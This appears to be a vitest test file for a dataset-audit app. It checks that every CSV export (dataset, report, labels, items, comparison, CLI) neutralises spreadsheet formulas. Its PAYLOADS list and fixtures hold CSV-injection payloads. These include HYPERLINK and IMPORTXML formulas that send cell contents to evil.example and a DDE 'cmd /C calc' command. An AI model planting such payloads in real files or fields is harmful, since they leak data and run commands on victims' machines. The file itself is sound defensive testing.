/**
 * Issue #17 item 5: no CSV the app writes hands a spreadsheet a formula. Every text field that
 * reaches a CSV — instructions, inputs, outputs, reviewer names, comments, model names, audit
 * names — is filled with formula payloads, and every cell of every CSV is checked: the dataset
 * export (page/API and CLI), report, labels, items and comparison. The dataset export can keep
 * cells as stored, for programs.
 */
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestDb, jsonl, streamOf } from '../support/db';
import { buildQualityAudit, buildRatingAudit } from '../support/audit-fixtures';
import type { Db } from '../../src/lib/server/db';
import { importFile } from '../../src/lib/server/datasets/import';
import { startExport } from '../../src/lib/server/exports/export';
import { parseExportParams } from '../../src/lib/server/exports/params';
import { auditReport, compareAudits, comparisonCsv, itemVerdicts, labelsDownload, loadAudit, reportCsv, verdictsCsv } from '../../src/lib/server/reports';
import { csvRows, neutraliseFormula } from '../../src/lib/formats/csv';
import { CLI_ENTRY } from '../support/cli-bundle';

/** Formula payloads as spreadsheets see them (OWASP CSV injection), plus look-alikes that are harmless. */
const PAYLOADS = [
	'=HYPERLINK("http://evil.example/?x="&A1,"click")',
	'=1+1',
	'+1+1',
	'-1+1',
	'-2+3+cmd|\' /C calc\'!A0',
	'@SUM(1,1)',
	'\t=1+1',
	'\r=1+1',
	'=cmd|\' /C calc\'!A0',
	'=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")'
];

/** A cell is safe when a spreadsheet cannot take it for a formula: no formula start, unless it is a plain number. */
function unsafeCells(csvText: string): string[] {
	const rows = parseCsv(csvText, { relax_column_count: false }) as string[][];
	return rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?(\d+(\.\d*)?|\.\d+)(e[+-]?\d+)?$/i.test(cell));
}

let db: Db;
let file: string;
let cleanup: () => void;
let datasetId: number;
let qualityAuditId: number;
let ratingAuditId: number;
let secondQualityAuditId: number;
let secondRatingAuditId: number;

beforeAll(async () => {
	({ db, file, cleanup } = createTestDb());
	// A dataset whose every text field is a payload.
	const rows = PAYLOADS.flatMap((p, i) => [
		{ instruction: p + ` #${i}`, input: p, output: p },
		{ instruction: `Plain instruction ${i}`, input: '', output: `${p}` }
	]);
	datasetId = (await importFile(streamOf(jsonl(rows)), { datasetName: 'payloads', fileName: 'payloads.jsonl' }, db)).datasetId;

	const quality = await buildQualityAudit(db, {
		datasetName: 'q',
		name: '=HYPERLINK("http://evil.example","audit")',
		tasks: [
			{ key: 't1', classification: true },
			{ key: 't2', classification: false },
			{ key: 't3', classification: null }
		],
		reviewers: ['=Ana()', '+Ben', '@Cy'],
		overlap: 2,
		labels: {
			t1: { '=Ana()': 'YYY', '+Ben': 'YYN' },
			t2: { '=Ana()': 'YNY', '@Cy': 'YYY' },
			t3: { '+Ben': 'NYY', '@Cy': 'NYY' }
		}
	});
	qualityAuditId = quality.auditId;
	// Comments are free text typed by reviewers.
	db.$client.prepare('UPDATE audit_labels SET comment = ? WHERE audit_id = ?').run('=HYPERLINK("http://evil.example","see")', qualityAuditId);
	db.$client.prepare('UPDATE audit_items SET stratum = ? WHERE audit_id = ?').run('-stratum+1', qualityAuditId);

	const rating = await buildRatingAudit(db, {
		datasetName: 'r',
		name: '+rating audit',
		tasks: [
			{ key: 'r1', classification: false },
			{ key: 'r2', classification: false }
		],
		models: ['=model()', '@gpt'],
		reviewers: ['-Dee', '=Eli'],
		overlap: 2,
		labels: {
			r1: { '-Dee': { ratings: { '=model()': 'A', '@gpt': 'C' } }, '=Eli': { ratings: { '=model()': 'B', '@gpt': 'B' } } },
			r2: { '-Dee': { ratings: { '=model()': 'D', '@gpt': 'A' } }, '=Eli': { ratings: { '=model()': 'A', '@gpt': 'A' } } }
		}
	});
	ratingAuditId = rating.auditId;
	db.$client.prepare('UPDATE audit_labels SET comment = ? WHERE audit_id = ?').run('@evil', ratingAuditId);
	// A second quality audit to compare with.
	secondQualityAuditId = (
		await buildQualityAudit(db, {
			datasetName: 'q2',
			name: '@second audit',
			tasks: [
				{ key: 's1', classification: true },
				{ key: 's2', classification: false }
			],
			reviewers: ['=Fay'],
			overlap: 1,
			labels: { s1: { '=Fay': 'YYY' }, s2: { '=Fay': 'YNN' } }
		})
	).auditId;
	secondRatingAuditId = (
		await buildRatingAudit(db, {
			datasetName: 'r2',
			name: '=second ratings',
			tasks: [{ key: 'x1', classification: false }],
			models: ['=model()', '@gpt'],
			reviewers: ['+Gus'],
			overlap: 1,
			labels: { x1: { '+Gus': { ratings: { '=model()': 'B', '@gpt': 'D' } } } }
		})
	).auditId;
}, 120_000);
afterAll(() => cleanup());

function exportText(query: string): string {
	const stream = startExport(parseExportParams(new URLSearchParams(query)), db);
	return Buffer.concat([...stream.chunks()].map((c) => Buffer.from(c))).toString('utf8');
}

describe('the CSV writer', () => {
	it('neutralises text starting with = + - @ tab or CR, and leaves numbers and other text alone', () => {
		for (const p of PAYLOADS) expect(neutraliseFormula(p)).toBe(`'${p}`);
		for (const p of ['plain', ' =1', '1-2', "'=already", '', 'a=b']) expect(neutraliseFormula(p)).toBe(p);
		expect(csvRows([[-1.5, 'x', null, true, '-1.5', '+3', '-1.5+1']])).toBe(`-1.5,x,,true,-1.5,+3,'-1.5+1\r\n`);
		expect(csvRows([['=1', 'a\nb']], { neutraliseFormulas: false })).toBe('=1,"a\nb"\r\n');
	});
});

describe('every CSV the app writes is safe to open in a spreadsheet', () => {
	it('dataset export (the page and API: /api/exports/download?format=csv)', () => {
		const text = exportText(`dataset=${datasetId}&format=csv`);
		const cells = (parseCsv(text) as string[][]).flat();
		expect(cells.filter((c) => c.startsWith("'")).length).toBeGreaterThanOrEqual(PAYLOADS.length * 3);
		expect(unsafeCells(text)).toEqual([]);
	});

	it('dataset export writes text that is exactly a number as stored ("-5", not "\'-5"), and neutralises the rest', async () => {
		const numbers = ['-5', '-0.25', '+3', '-1e-3', '-.5'];
		const formulas = ['-2+3', '-5 ', '-0x10'];
		const rows = [...numbers, ...formulas].map((n, i) => ({ instruction: `Give a number ${i}`, input: n, output: n }));
		const id = (await importFile(streamOf(jsonl(rows)), { datasetName: 'numbers as text', fileName: 'numbers.jsonl' }, db)).datasetId;
		// Instances are written by SQLite a block at a time (recordSql), which must ask csv.ts's own number test.
		const read = parseCsv(exportText(`dataset=${id}&format=csv`), { columns: true }) as Array<{ input: string; output: string }>;
		expect(read.map((r) => r.input)).toEqual([...numbers, ...formulas.map((f) => `'${f}`)]);
		expect(read.map((r) => r.output)).toEqual(read.map((r) => r.input));
	});

	it('dataset export keeps cells as stored when asked (csvFormulas=keep), and the manifest says which', () => {
		const stream = startExport(parseExportParams(new URLSearchParams(`dataset=${datasetId}&format=csv&csvFormulas=keep`)), db);
		const text = Buffer.concat([...stream.chunks()].map((c) => Buffer.from(c))).toString('utf8');
		const rows = parseCsv(text, { columns: true }) as Array<{ instruction: string; input: string; output: string }>;
		expect(rows.map((r) => r.input).filter(Boolean)).toEqual(PAYLOADS);
		expect(stream.manifest().options.csvFormulas).toBe('kept');
		const neutral = startExport(parseExportParams(new URLSearchParams(`dataset=${datasetId}&format=csv`)), db);
		[...neutral.chunks()];
		expect(neutral.manifest().options.csvFormulas).toBe('neutralised');
	});

	it('report.csv, labels.csv and items.csv of a quality audit', () => {
		const report = reportCsv(auditReport(qualityAuditId));
		const labels = [...labelsDownload(qualityAuditId, 'csv')].join('');
		const items = verdictsCsv(itemVerdicts(qualityAuditId), loadAudit(qualityAuditId).models);
		// The payloads are there (neutralised), so the check below is not vacuous.
		expect(labels).toContain(`'=HYPERLINK(""http://evil.example"",""see"")`);
		expect(labels).toContain("'=Ana()");
		expect(items).toContain("'-stratum+1");
		for (const text of [report, labels, items]) expect(unsafeCells(text)).toEqual([]);
	});

	it('report.csv, labels.csv and items.csv of a rating audit (model names in headers and cells)', () => {
		const models = loadAudit(ratingAuditId).models;
		const report = reportCsv(auditReport(ratingAuditId));
		const labels = [...labelsDownload(ratingAuditId, 'csv')].join('');
		const items = verdictsCsv(itemVerdicts(ratingAuditId), models);
		expect(report).toContain("'=model()");
		expect(labels).toContain("'@evil");
		for (const text of [report, labels, items]) expect(unsafeCells(text)).toEqual([]);
	});

	it('comparison.csv of two quality audits and of two rating audits (model names as groups)', () => {
		const quality = comparisonCsv(compareAudits(qualityAuditId, secondQualityAuditId));
		const rating = comparisonCsv(compareAudits(ratingAuditId, secondRatingAuditId));
		expect(rating).toContain("'=model()");
		for (const text of [quality, rating]) expect(unsafeCells(text)).toEqual([]);
	});

	it('the CLI: export --format csv neutralises, --csv-keep-formulas keeps; report --csv and --labels csv neutralise', () => {
		const dir = path.dirname(file);
		const cli = (...args: string[]) =>
			spawnSync(process.execPath, [CLI_ENTRY, ...args], {
				env: { ...process.env, DATABASE_PATH: file },
				encoding: 'utf8',
				timeout: 60_000
			});
		const safe = path.join(dir, 'safe.csv');
		const raw = path.join(dir, 'raw.csv');
		expect(cli('export', 'payloads', '--format', 'csv', '--out', safe).status).toBe(0);
		expect(cli('export', 'payloads', '--format', 'csv', '--csv-keep-formulas', '--out', raw).status).toBe(0);
		expect(unsafeCells(fs.readFileSync(safe, 'utf8'))).toEqual([]);
		expect(unsafeCells(fs.readFileSync(raw, 'utf8')).length).toBeGreaterThanOrEqual(PAYLOADS.length * 3);
		expect(JSON.parse(fs.readFileSync(`${raw}.manifest.json`, 'utf8')).options.csvFormulas).toBe('kept');
		const report = cli('report', String(qualityAuditId), '--csv');
		expect(report.status).toBe(0);
		expect(unsafeCells(report.stdout)).toEqual([]);
		const labels = cli('report', String(qualityAuditId), '--labels', 'csv');
		expect(labels.status).toBe(0);
		expect(labels.stdout).toContain("'=Ana()");
		expect(unsafeCells(labels.stdout)).toEqual([]);
	}, 120_000);
});
